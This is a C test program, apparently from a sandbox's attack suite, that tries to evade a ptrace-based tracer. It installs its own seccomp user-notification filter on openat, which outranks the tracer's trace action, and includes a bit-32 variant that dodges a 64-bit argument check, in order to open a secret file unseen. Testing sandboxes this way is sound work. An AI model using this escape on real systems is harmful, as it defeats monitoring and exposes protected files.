/* tr_seccomp: install a seccomp filter of our own whose SECCOMP_RET_USER_NOTIF outranks the
 * tracer's SECCOMP_RET_TRACE, answer its notifications ourselves with
 * SECCOMP_USER_NOTIF_FLAG_CONTINUE -- and the openat runs without the tracer ever seeing it.
 *
 *   tr_seccomp MODE SECRET
 *
 * MODE: listener     seccomp(SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, ...)
 *       listener_hi  the same with bit 32 set in the operation argument: the kernel reads it
 *                    as an unsigned int (the bit is dropped), a 64-bit comparison does not
 * Class 6 (seccomp calls that would loosen anything).
 */
#include "attack.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>

static volatile int listener = -1;

static void *answer(void *arg) {
    (void)arg;
    while (listener < 0)
        usleep(1000);
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    for (;;) {
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
            return NULL;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("tr_seccomp MODE SECRET");
    const char *mode = argv[1], *secret = argv[2];
    unsigned long op = SECCOMP_SET_MODE_FILTER;
    if (!strcmp(mode, "listener_hi"))
        op |= 1UL << 32;
    else if (strcmp(mode, "listener"))
        usage("MODE: listener listener_hi");
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {.len = sizeof code / sizeof code[0], .filter = code};
    pthread_t th; /* made before the filter: it is not under it */
    pthread_create(&th, NULL, answer, NULL);
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    long fd = syscall(SYS_seccomp, op, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (fd < 0)
        blocked("seccomp(NEW_LISTENER, op %#lx): %s", op, ename(errno));
    listener = (int)fd;
    int f = open(secret, O_RDONLY);
    if (f < 0)
        blocked("the listener was installed, but open still failed: %s", ename(errno));
    if (is_secret_fd(f))
        escaped("our own listener let openat through, unseen (fd -> %s)", fd_name(f));
    blocked("opened something else (%s)", fd_name(f));
}
